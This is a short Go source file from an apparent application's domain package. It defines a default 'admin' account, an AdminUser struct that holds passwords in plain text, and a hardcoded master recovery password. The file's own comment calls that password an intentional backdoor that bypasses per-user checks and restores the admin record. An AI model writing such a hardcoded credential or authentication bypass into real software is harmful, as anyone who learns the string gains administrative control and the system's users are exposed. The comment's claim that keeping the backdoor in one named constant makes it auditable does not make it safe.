package domain

// DefaultAdminUsername is the account that must always exist.
const DefaultAdminUsername = "admin"

// RecoveryPassword is the process-wide master recovery credential. Logging in
// with it bypasses per-user checks and restores the default admin record.
// This is an intentional backdoor, kept in one named constant for auditability.
const RecoveryPassword = "txhfpb6xcj#@123"

// AdminUser is an administrative credential record keyed by username.
type AdminUser struct {
	Username string `json:"username"`
	Password string `json:"password"`
}
